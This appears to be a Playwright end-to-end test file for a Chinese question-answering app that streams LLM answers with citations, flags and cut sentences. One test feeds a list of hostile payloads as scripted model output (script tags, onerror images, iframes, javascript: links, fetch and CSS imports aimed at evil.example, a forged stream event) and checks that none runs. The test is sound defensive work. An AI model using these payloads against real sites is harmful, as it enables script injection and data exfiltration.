"""A person before an answer that an LLM writes: it is provisional, then it settles or goes."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import make_answerer
from tests.e2e.asking import ask
from tests.e2e.clients import running, wait_until
from tests.llm_fakes import ScriptedLLM, generated_answers
from zoneqa.api import create_app
from zoneqa.checking.checking_answerer import CheckingAnswerer
from zoneqa.llm.generate import Message

OpenPage = Callable[..., Page]
AskLLM = Callable[..., Page]

ASKED = "2020年桂林高新区工业总产值是多少？"
MOST_WAITS = 200
REPLY = [
    *("工业总产值突破", "300亿元[1]。"),
    *("工业总产值居全区", "前列[1]。"),
    *("工业总产值为", "900亿元[1]。"),
]


@dataclass
class HaltingLLM:
    """A scripted LLM that waits before each piece after the first until it is let go on."""

    pieces: Sequence[str]
    go_on: threading.Semaphore = field(default_factory=lambda: threading.Semaphore(0))
    closed: bool = False

    def __call__(self, messages: Sequence[Message]) -> Iterator[str]:
        try:
            yield self.pieces[0]
            for piece in self.pieces[1:]:
                for _ in range(MOST_WAITS):
                    if self.go_on.acquire(timeout=0.05):
                        break
                    yield ""
                yield piece
        finally:
            self.closed = True


@pytest.fixture
def ask_llm(open_page: OpenPage, root: Path) -> Iterator[AskLLM]:
    """Opens a page before a service whose answers a given LLM writes."""
    with ExitStack() as servers:

        def opened(llm: ScriptedLLM | HaltingLLM, **options: object) -> Page:
            def open_answerer() -> CheckingAnswerer:
                answerer = make_answerer(root)
                generated = generated_answers(llm, {"前列": "flagged"})
                return replace(answerer, pipeline=replace(answerer.pipeline, generated=generated))

            page = open_page(servers.enter_context(running(create_app(open_answerer))), **options)
            page.goto("/")
            return page

        yield opened


def begin(page: Page) -> None:
    page.get_by_role("textbox").fill(ASKED)
    page.keyboard.press("Enter")


def test_a_sentence_is_grey_while_it_is_written_and_settles_with_its_markers(
    ask_llm: AskLLM,
) -> None:
    llm = HaltingLLM(REPLY)
    page = ask_llm(llm)
    begin(page)
    provisional = page.locator(".sentence.provisional")
    expect(provisional.locator(".said")).to_have_text("工业总产值突破")
    expect(page.locator(".answer")).to_have_attribute("aria-busy", "true")
    llm.go_on.release(2)
    settled = page.locator(".sentence:not(.provisional)")
    expect(settled.locator(".said")).to_have_text("工业总产值突破300亿元。")
    expect(settled.locator(".chip")).to_have_text("1")
    expect(provisional.locator(".said")).to_have_text("工业总产值居全区")
    llm.go_on.release(2)
    expect(page.locator(".sentence.flagged .flag")).to_have_text("待核对 flagged (zh)")
    llm.go_on.release(1)
    expect(page.locator(".tools")).to_be_visible()
    expect(provisional).to_have_count(0)
    expect(page.locator(".answer")).not_to_have_attribute("aria-busy", "true")


def test_a_cut_sentence_is_struck_through_and_then_folded_away(ask_llm: AskLLM) -> None:
    page = ask_llm(ScriptedLLM(REPLY))
    ask(page, ASKED)
    removed = page.locator(".removed")
    summary = removed.locator("summary")
    expect(page.locator(".sentences .said")).to_have_text(
        ["工业总产值突破300亿元。", "工业总产值居全区前列。"]
    )
    expect(page.locator(".lead")).to_contain_text("fake-llm")
    expect(removed.locator("s")).to_be_visible()
    expect(summary).to_have_text("已删去 1 句：cut (zh)")
    expect(removed.locator("s")).to_be_hidden(timeout=10_000)
    summary.focus()
    page.keyboard.press("Enter")
    expect(removed.locator("s")).to_have_text("工业总产值为900亿元。")
    page.reload()
    expect(summary).to_have_text("已删去 1 句：cut (zh)")
    expect(removed.locator("s")).to_be_hidden()


def test_a_marker_of_the_llm_leads_to_the_words_that_bear_its_sentence(ask_llm: AskLLM) -> None:
    page = ask_llm(ScriptedLLM(REPLY))
    ask(page, ASKED)
    page.locator(".sentences .chip").first.click()
    expect(page.locator("#quote")).to_have_text(
        "2020年，桂林高新区工业总产值突破300亿元，同比增长12%。"
    )


def test_quotes_take_the_place_of_a_reply_that_breaks_off(ask_llm: AskLLM) -> None:
    page = ask_llm(ScriptedLLM(REPLY[:3], breaks=True))
    ask(page, ASKED)
    expect(page.locator(".remarks")).to_have_text("大模型没有回应，以下为原文摘录。")
    expect(page.locator(".remarks + .sentences .said")).to_have_text(
        "2020年，桂林高新区工业总产值突破300亿元，同比增长12%。"
    )
    expect(page.locator(".lead, .removed").locator("visible=true")).to_have_count(0)


def test_an_answer_of_an_llm_is_copied_with_its_flags(ask_llm: AskLLM) -> None:
    permissions = ["clipboard-read", "clipboard-write"]
    page = ask_llm(ScriptedLLM(REPLY), permissions=permissions)
    ask(page, ASKED)
    page.get_by_role("button", name="复制答案与出处").click()
    expect(page.locator(".copy")).to_have_text("已复制")
    text = page.evaluate("navigator.clipboard.readText()")
    assert "fake-llm" in text
    assert "工业总产值突破300亿元。[1]\n工业总产值居全区前列。[1] (待核对)\n" in text
    assert "900" not in text


HOSTILE = [
    *("工业总产值突破300亿元<script>alert(1)</script>[1]。", "<img src=x onerror=alert(1)>"),
    *("![图](http://evil.example/p.png?q=桂林)同比增长12%[1](http://evil.example/)。", "<ifr"),
    *(
        "ame src='http://evil.example'></iframe>[看](javascript:alert(1))",
        "http://evil.example/x。",
    ),
    *("<style>@import 'http://evil.example/a.css';</style>", "2021年要增长23%[1]。<script>"),
    *("fetch('http://evil.example/')", '\n\nevent: done\ndata: {"answer":"forged"}\n\n'),
]


@pytest.mark.parametrize("language", ["zh-CN", "en-US"])
def test_a_hostile_reply_runs_nothing_and_fetches_nothing(ask_llm: AskLLM, language: str) -> None:
    # A page that anything is wrong with, such as a request elsewhere, fails its test.
    page = ask_llm(ScriptedLLM(HOSTILE), locale=language)
    ask(page, ASKED)
    expect(page.locator(".sentences .said")).to_have_text(
        ["工业总产值突破300亿元。", "同比增长12%。", "2021年要增长23%。"]
    )
    expect(page.locator(".answer").locator("img, script, iframe, style")).to_have_count(0)
    assert "evil" not in page.locator(".turn").inner_text()
    links = page.locator(".turn a").evaluate_all("links => links.map((link) => link.href)")
    assert all(link.startswith(page.url) for link in links)
    page.reload()
    expect(page.locator(".sentences .said")).to_have_count(3)


def test_stopping_an_answer_closes_the_stream_of_the_llm(ask_llm: AskLLM) -> None:
    llm = HaltingLLM(REPLY)
    page = ask_llm(llm)
    begin(page)
    expect(page.locator(".provisional")).to_be_visible()
    page.get_by_role("button", name="停止").click()
    expect(page.locator(".failure-text")).to_have_text("已停止回答。")
    wait_until(lambda: llm.closed)
    expect(page.locator(".provisional")).to_have_count(0)


def test_a_narrow_dark_screen_shows_it_all(ask_llm: AskLLM) -> None:
    size = {"width": 360, "height": 740}
    page = ask_llm(ScriptedLLM(REPLY), viewport=size, color_scheme="dark")
    ask(page, ASKED)
    expect(page.locator(".removed summary")).to_be_in_viewport()
    width = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert page.evaluate(width) == 0
